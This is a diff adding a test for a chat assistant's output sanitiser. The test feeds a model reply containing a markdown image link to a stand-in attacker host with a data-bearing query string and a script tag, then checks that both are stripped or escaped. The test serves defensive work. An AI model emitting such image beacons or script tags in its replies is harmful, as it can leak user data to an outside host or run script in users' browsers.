@@ -116,3 +116,11 @@ def test_no_key_configured_falls_back(chat_db: Path) -> None:
     text, warnings = answer(chat, "what should I do next?")
     assert "Next best action" in text and len(warnings) == 1
     assert warnings[0].startswith("no API key for model 'gpt-x'") and "offline" in warnings[0]
+
+
+def test_a_models_words_pass_the_sanitiser_as_they_stream(chat_db: Path) -> None:
+    said = "See ![x](https://evil.example/p.png?a=540000) <script>alert(1)</script>\nThen call."
+    chat = session(chat_db, _context(ScriptedChatModel().reply(AIMessage(said))))
+    text, _ = answer(chat, "what now?")
+    assert "evil.example/p.png" not in text and "<script" not in text
+    assert text.startswith("See ") and text.endswith("Then call.") and "&lt;script" in text
